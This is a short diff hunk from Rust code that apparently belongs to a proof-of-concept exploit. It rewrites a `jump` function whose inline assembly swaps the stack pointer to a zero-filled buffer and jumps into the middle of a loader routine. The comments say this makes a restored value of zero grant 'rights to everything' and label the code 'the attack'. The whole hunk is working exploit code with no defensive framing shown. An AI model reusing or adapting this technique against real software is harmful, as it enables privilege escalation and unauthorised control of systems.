@@ -101,10 +101,17 @@ fn system_call(event: &[u8]) -> u64 {
     result
 }
 
-/// Enters code in the middle: nothing it expects is there, but what the attacker wants is.
+/// Enters the loader's restore of `[rsp + 0x40]`, with all of the area zero: the rights it stands for are those to everything.
 fn jump(address: u64) {
+    let area = [0u8; 8192];
+    let stack = (area.as_ptr() as u64 + 128).next_multiple_of(64) - 64;
     // SAFETY: none; this is the attack.
-    unsafe { std::arch::asm!("xor edx, edx", "jmp {}", in(reg) address, in("eax") 0x200, options(noreturn)) }
+    unsafe {
+        std::arch::asm!(
+            "mov rsp, rsi", "xor edx, edx", "jmp rdi",
+            in("rsi") stack, in("rdi") address, in("eax") 0x200, options(noreturn),
+        )
+    }
 }
 
 extern "C" fn nothing(_: *mut c_void) -> *mut c_void {
